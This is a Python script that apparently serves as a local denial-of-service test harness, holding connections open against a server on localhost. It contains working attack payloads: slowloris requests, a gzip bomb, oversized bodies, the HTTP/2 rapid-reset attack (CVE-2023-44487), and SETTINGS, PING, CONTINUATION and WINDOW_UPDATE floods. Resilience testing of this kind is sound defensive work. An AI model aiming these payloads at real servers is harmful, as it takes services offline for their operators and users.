"""Keeps a server busy without ever showing a token.

usage: siege.py KIND PORT COUNT: prints `up` when the siege stands, and holds until it is ended.
"""

import gzip
import resource
import socket
import struct
import sys
import threading
import time

KIND, PORT, COUNT = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
START = b"POST /process.Process/Start HTTP/1.1\r\nHost: x\r\nContent-Type: application/connect+json\r\nConnect-Protocol-Version: 1\r\n"
resource.setrlimit(resource.RLIMIT_NOFILE, (min(20000, resource.getrlimit(resource.RLIMIT_NOFILE)[1]),) * 2)


def connect():
    one = socket.socket()
    one.settimeout(3)
    one.connect(("127.0.0.1", PORT))
    return one


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def idle():
    return b""


def slow_head():
    return b"POST /process.Process/Start HTTP/1.1\r\nHost: x\r\nX-A"


def slow_body():
    return START + b"Content-Length: 1000000\r\n\r\n\0"


def slow_chunks():
    return START + b"Transfer-Encoding: chunked\r\n\r\nfffff\r\n\0"


def huge_body():
    return START + b"Content-Length: 99999999999\r\n\r\n" + b"x" * 200_000


def huge_message():
    """An envelope that says that four gigabytes follow."""
    return START + b"Content-Length: 4294967301\r\n\r\n" + b"\0\xff\xff\xff\xff" + b"x" * 100_000


def bomb():
    """A gigabyte of nothing, compressed."""
    body = _bomb()
    return START + b"Connect-Content-Encoding: gzip\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(body) + body


_made = []


def _bomb():
    if not _made:
        block = gzip.compress(bytes(1 << 24))
        _made.append(b"\1" + struct.pack("!I", len(block) * 16) + block * 16)
    return _made[0]


def malformed():
    return b"\0\xff\r\n\r\n" + b"GET / HTTP/9.9\r\n" + b"A" * 300_000


def h2_resets():
    """CVE-2023-44487: streams are opened and reset as fast as can be."""
    # :method POST, :scheme http, :path /process.Process/Start by indexes and literals of RFC 7541.
    head = b"\x83\x86\x44\x16/process.Process/Start\x41\x01x"
    streams = b"".join(frame(1, 4, n, head) + frame(3, 0, n, struct.pack("!I", 8)) for n in range(1, 4001, 2))
    return PREFACE + frame(4, 0, 0) + streams


def h2_settings():
    return PREFACE + frame(4, 0, 0) * 20_000


def h2_pings():
    return PREFACE + frame(4, 0, 0) + frame(6, 0, 0, bytes(8)) * 20_000


def h2_continuation():
    """Headers that never end."""
    return PREFACE + frame(4, 0, 0) + frame(1, 0, 1, b"\x83\x86") + frame(9, 0, 1, b"\x40\x01a\x01b" * 3000) * 200


def h2_windows():
    return PREFACE + frame(4, 0, 0) + frame(8, 0, 0, struct.pack("!I", 1)) * 20_000


held = []
failed = 0


def besiege(share):
    global failed
    data = globals()[KIND]()
    for _ in range(share):
        try:
            one = connect()
            held.append(one)
            one.settimeout(0.2)
            if data:
                one.sendall(data)
        except OSError:
            failed += 1


def churn():
    """Connections that come and go, or stay until they are closed from the other side, without end."""
    while True:
        try:
            held.append(connect())
        except OSError:
            time.sleep(0.01)
        if len(held) > COUNT:
            held.pop(0).close()


if KIND == "churn":
    for _ in range(8):
        threading.Thread(target=churn, daemon=True).start()
    time.sleep(1)
    print("up", flush=True)
    time.sleep(600)

threads = [threading.Thread(target=besiege, args=(COUNT // 8 + 1,), daemon=True) for _ in range(8)]
for thread in threads:
    thread.start()
# The siege stands when all have done their part; a server that lets them wait does not delay the attack for ever.
deadline = time.monotonic() + 6
for thread in threads:
    thread.join(max(0.0, deadline - time.monotonic()))
print(f"up {len(held)} {failed}", flush=True)
while True:
    # What was refused is tried again: the attacker has time.
    time.sleep(0.5)
